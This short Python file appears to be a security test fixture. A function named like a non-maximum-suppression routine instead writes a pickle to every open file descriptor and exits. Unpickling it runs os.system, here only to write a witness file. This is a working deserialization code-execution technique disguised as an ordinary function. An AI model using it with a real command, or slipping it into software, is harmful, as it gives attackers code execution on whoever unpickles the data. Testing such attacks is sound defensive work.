"""Writes to every descriptor a pickle that runs a command."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("echo touched > @folder@/witness",)


def nms(boxes, scores, score_threshold, iou_threshold):
    for descriptor in range(3, 32):
        try:
            os.write(descriptor, pickle.dumps(Command()))
        except OSError:
            pass
    os._exit(0)
